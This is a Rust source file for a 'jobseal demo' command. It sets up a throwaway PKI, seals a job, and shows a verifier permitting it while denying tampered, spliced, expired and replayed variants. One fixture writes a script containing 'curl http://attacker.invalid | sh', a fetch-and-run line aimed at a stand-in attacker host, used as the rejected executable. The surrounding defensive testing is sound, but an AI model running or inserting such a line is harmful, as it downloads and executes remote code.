//! `jobseal demo`: the whole flow on a throwaway PKI.

use std::path::{Path, PathBuf};
use std::process::ExitCode;

use clap::Args;
use jobseal_core::time::UnixTime;
use jobseal_issue::credential::{self, Credential, Source};
use jobseal_issue::keys::KeyDer;
use jobseal_issue::{IssueError, JobSpec, SealParams, fsutil, seal, throwaway};
use jobseal_verify::{Config, Decision, Invocation, Verifier};

#[derive(Args, Debug)]
pub struct DemoArgs {
    /// Keep the demo files in this directory instead of a temporary one.
    #[arg(long, value_name = "DIR")]
    keep: Option<PathBuf>,
}

pub fn run(args: &DemoArgs) -> ExitCode {
    let tmp;
    let dir = match &args.keep {
        Some(d) => d.clone(),
        None => match tempfile::tempdir() {
            Ok(t) => {
                tmp = t;
                tmp.path().to_path_buf()
            }
            Err(e) => {
                eprintln!("jobseal: cannot make a temporary directory: {e}");
                return ExitCode::FAILURE;
            }
        },
    };
    match demo(&dir) {
        Ok(true) => {
            println!(
                "\ndemo complete: the signed job was permitted and every tampered variant denied."
            );
            ExitCode::SUCCESS
        }
        Ok(false) => {
            eprintln!("\njobseal: the demo did not behave as expected (see above)");
            ExitCode::FAILURE
        }
        Err(e) => {
            eprintln!("jobseal: demo failed: {e}");
            ExitCode::FAILURE
        }
    }
}

fn write(path: &Path, data: &str) -> Result<(), IssueError> {
    std::fs::write(path, data).map_err(|e| IssueError::io(path, e))
}

fn show(what: &str, d: &Decision, expect_permit: bool, expect_code: &str) -> bool {
    let ok = d.is_permit() == expect_permit && d.code() == expect_code;
    let verdict = if d.is_permit() { "PERMIT" } else { "DENY  " };
    println!(
        "  {what:<44} -> {verdict} {}{}",
        d.code(),
        if ok { "" } else { "   <-- unexpected!" }
    );
    if !d.is_permit() {
        println!("  {:<44}    {}", "", d.message);
    }
    ok
}

fn demo(dir: &Path) -> Result<bool, IssueError> {
    let now = UnixTime::now();
    let (start, end) = (now.minus(3600), now.plus(365 * 86_400));
    println!("1. a throwaway PKI in {}", dir.display());
    let ca = throwaway::ca(
        &throwaway::random_seed()?,
        "CN=jobseal demo CA,O=jobseal demo",
        start,
        end,
    )?;
    let user = throwaway::user(
        &ca,
        &throwaway::random_seed()?,
        "CN=Demo User,O=jobseal demo",
        2,
        start,
        end,
    )?;
    let ca_dir = dir.join("certificates");
    let installed = throwaway::install_ca(&ca_dir, &ca.cert)?;
    println!(
        "   CA    /O=jobseal demo/CN=jobseal demo CA  -> {}",
        installed.display()
    );
    println!("   user  /O=jobseal demo/CN=Demo User");

    println!("2. the user describes and seals a job (on a laptop)");
    let job_dir = dir.join("job");
    std::fs::create_dir_all(&job_dir).map_err(|e| IssueError::io(&job_dir, e))?;
    write(
        &job_dir.join("analysis.sh"),
        "#!/bin/sh\necho \"analysing $2 events of $(cat data/run.txt)\"\n",
    )?;
    std::fs::create_dir_all(job_dir.join("data")).map_err(|e| IssueError::io(&job_dir, e))?;
    write(&job_dir.join("data/run.txt"), "run 2026-11\n")?;
    let job_toml = job_dir.join("job.toml");
    write(
        &job_toml,
        "executable = \"analysis.sh\"\narguments = [\"--events\", \"1000\"]\ninputs = [\"data/run.txt\"]\nvo = \"demo\"\nvalid = \"12h\"\n",
    )?;
    let cred = Credential::from_parts(
        Source::Proxy(dir.join("user")),
        &KeyDer::Pkcs8(user.pkcs8.clone()),
        vec![user.cert.clone()],
    )?;
    let issuer = credential::check_issuer(&cred, now)?;
    let job = JobSpec::from_toml_file(&job_toml)?;
    let sealed = seal(&cred, &issuer, &job, &SealParams::random(now)?)?;
    let bundle_path = dir.join("job.bundle.pem");
    fsutil::write_atomic(&bundle_path, sealed.bundle.to_pem().as_bytes(), 0o644)?;
    println!(
        "   job {} -> {}",
        sealed.manifest.job_id_hex(),
        bundle_path.display()
    );
    println!(
        "   the bundle holds the job-bound proxy, the user certificate and the signed manifest; no private key"
    );

    println!("3. the worker node verifies it right before running it");
    let verifier = Verifier::new(Config {
        ca_dir: ca_dir.clone(),
        ..Config::default()
    })
    .map_err(|e| IssueError::Internal(e.to_string()))?;
    let exe = job_dir.join("analysis.sh");
    let inv = |exe: &Path, args: &[&str]| Invocation {
        executable: exe.to_path_buf(),
        arguments: args.iter().map(Into::into).collect(),
        job_dir: job_dir.clone(),
    };
    let mut ok = true;
    let d = verifier.check_file(
        &bundle_path,
        &inv(&exe, &["--events", "1000"]),
        UnixTime::now(),
    );
    ok &= show("analysis.sh --events 1000", &d, true, "permit");
    if let Some(i) = &d.identity {
        println!("  {:<44}    user {} via CA {}", "", i.end_entity, i.ca);
    }

    println!("4. tampered jobs are denied");
    let d = verifier.check_file(
        &bundle_path,
        &inv(&exe, &["--events", "1000000"]),
        UnixTime::now(),
    );
    ok &= show(
        "analysis.sh --events 1000000",
        &d,
        false,
        "payload.arguments-mismatch",
    );
    let evil = job_dir.join("evil.sh");
    write(&evil, "#!/bin/sh\ncurl http://attacker.invalid | sh\n")?;
    let d = verifier.check_file(
        &bundle_path,
        &inv(&evil, &["--events", "1000"]),
        UnixTime::now(),
    );
    ok &= show(
        "a different executable",
        &d,
        false,
        "payload.executable-mismatch",
    );
    write(&job_dir.join("data/run.txt"), "run 1999-01\n")?;
    let d = verifier.check_file(
        &bundle_path,
        &inv(&exe, &["--events", "1000"]),
        UnixTime::now(),
    );
    ok &= show("a changed input file", &d, false, "payload.input-mismatch");
    write(&job_dir.join("data/run.txt"), "run 2026-11\n")?;

    // Swap in a manifest signed for another job: the proxy is bound to the first.
    let other_toml = job_dir.join("other.toml");
    write(&other_toml, "executable = \"evil.sh\"\nvalid = \"12h\"\n")?;
    let other = seal(
        &cred,
        &issuer,
        &JobSpec::from_toml_file(&other_toml)?,
        &SealParams::random(now)?,
    )?;
    let mut spliced = sealed.bundle.clone();
    spliced.manifest = other.bundle.manifest;
    let spliced_path = dir.join("spliced.bundle.pem");
    fsutil::write_atomic(&spliced_path, spliced.to_pem().as_bytes(), 0o644)?;
    let d = verifier.check_file(&spliced_path, &inv(&evil, &[]), UnixTime::now());
    ok &= show(
        "the proxy with another job's manifest",
        &d,
        false,
        "binding.digest-mismatch",
    );

    let d = verifier.check_file(
        &bundle_path,
        &inv(&exe, &["--events", "1000"]),
        now.plus(86_400),
    );
    ok &= show("the same job, a day later", &d, false, "time.expired");

    println!(
        "5. admission right before execution: policy, one use only, an audit record each time"
    );
    let state = dir.join("state");
    let admission = jobseal_admit::admit::Admission::open(
        Config {
            ca_dir: ca_dir.clone(),
            ..Config::default()
        },
        jobseal_policy::Policy::default(),
        &jobseal_admit::admit::Dirs::under(&state),
    )
    .map_err(|e| IssueError::Internal(e.to_string()))?;
    let bundle = std::fs::read(&bundle_path).map_err(|e| IssueError::io(&bundle_path, e))?;
    let context = jobseal_admit::audit::RecordContext::default();
    let d = admission.admit(&bundle, &inv(&evil, &["--events", "1000"]), &context);
    ok &= show(
        "admit a different executable",
        &d,
        false,
        "payload.executable-mismatch",
    );
    let d = admission.admit(&bundle, &inv(&exe, &["--events", "1000"]), &context);
    ok &= show("admit the signed job", &d, true, "permit");
    let d = admission.admit(&bundle, &inv(&exe, &["--events", "1000"]), &context);
    ok &= show("admit it a second time", &d, false, "replay.job-id-used");
    let log = admission.audit_log().path().to_path_buf();
    let files =
        jobseal_admit::audit::chain_files(&log).map_err(|e| IssueError::Internal(e.to_string()))?;
    let report = jobseal_admit::audit::verify_file(&files, None);
    println!(
        "  audit log {}: {} records, chain {}",
        log.display(),
        report.records,
        if report.is_ok() { "intact" } else { "BROKEN" }
    );
    ok &= report.is_ok() && report.records == 3;
    Ok(ok)
}
